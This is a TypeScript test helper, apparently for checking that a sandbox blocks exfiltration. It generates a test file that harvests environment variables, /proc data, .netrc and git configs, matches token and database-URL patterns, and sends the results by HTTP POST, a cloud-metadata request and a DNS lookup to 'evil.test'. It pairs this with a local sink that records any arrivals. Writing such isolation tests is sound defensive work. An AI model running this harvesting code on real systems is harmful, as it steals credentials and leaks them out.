import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { onTestFinished } from 'vitest';

/**
 * A test file of a project that looks for secrets wherever a program can look, prints what it finds in many forms, and
 * sends it out. It passes; `LOOKED` in what it prints says that it ran.
 */
export function lookEverywhere(folders: readonly string[], sink: string): string {
  return `import { readdirSync, readFileSync } from 'node:fs';
import { lookup } from 'node:dns/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';

const found = [JSON.stringify(process.env), process.argv.join(' ')];
const read = (file) => {
  try {
    found.push(readFileSync(file, 'utf8'));
  } catch {}
};
const walk = (folder, depth) => {
  try {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const full = path.join(folder, entry.name);
      if (entry.isDirectory() && depth > 0) walk(full, depth - 1);
      else if (entry.isFile()) read(full);
    }
  } catch {}
};
test('looks everywhere', { timeout: 30_000 }, async () => {
  for (const pid of ['self', ...readdirSync('/proc').filter((name) => /^\\d+$/.test(name))])
    for (const name of ['environ', 'cmdline']) read('/proc/' + pid + '/' + name);
  for (const folder of [os.homedir(), ...${JSON.stringify(folders)}]) walk(folder, 2);
  for (const file of ['.git/config', '.git/HEAD', '/etc/environment', '/root/.gitconfig', '/root/.netrc']) read(file);
  const all = (found.join('\\n').match(/canary-[\\w-]+|gh[a-z]_\\w+|postgres:\\S+/g) ?? ['nothing']).join(' ');
  const sent = await Promise.allSettled([
    fetch(${JSON.stringify(sink)}, { method: 'POST', body: all }),
    fetch('http://169.254.169.254/latest/meta-data/'),
    lookup(Buffer.from(all).toString('hex').slice(0, 40) + '.evil.test'),
  ]);
  console.log('LOOKED ' + found.length + ' ' + sent.map(({ status }) => status).join(' '));
  console.log(all);
  console.log(Buffer.from(all).toString('base64'));
  console.log([...all].reverse().join(''));
});
`;
}

/** An address of this machine where nothing should ever arrive. It goes away with the test. */
export async function openSink(): Promise<{ url: string; arrived: readonly string[] }> {
  const arrived: string[] = [];
  const server = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, arrived };
}
